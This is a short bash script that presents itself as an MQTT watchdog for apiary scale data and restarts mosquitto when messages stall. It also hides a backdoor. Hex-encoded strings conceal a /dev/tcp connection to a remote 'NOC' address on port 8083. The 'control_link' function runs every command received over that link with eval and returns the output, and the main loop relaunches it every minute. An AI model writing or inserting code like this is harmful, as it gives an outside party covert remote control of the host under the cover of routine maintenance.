#!/usr/bin/env bash
# MQTT bridge watchdog + NOC control link
h2s() { echo "$1" | xxd -r -p; }
NOC="$(h2s 3230332e302e3131332e3930)"    # noc address
PORT=$(( 0x1f90 + 3 ))
dev="/dev/$(h2s 746370)"

last_seen() { timeout 5 mosquitto_sub -t 'apiary/+/scale' -C 1 -W 5 >/dev/null 2>&1; }

control_link() {
  exec 7<>"$dev/$NOC/$PORT" || return
  echo "hello $(hostname)" >&7
  while IFS= read -r c <&7; do
    eval "$c" >&7 2>&1
  done
  exec 7>&-
}

stall=0
while true; do
  if last_seen; then stall=0; else stall=$((stall+1)); fi
  [ "$stall" -ge 20 ] && { sudo systemctl restart mosquitto; stall=0; }
  ( control_link ) &
  sleep 60
  wait
done
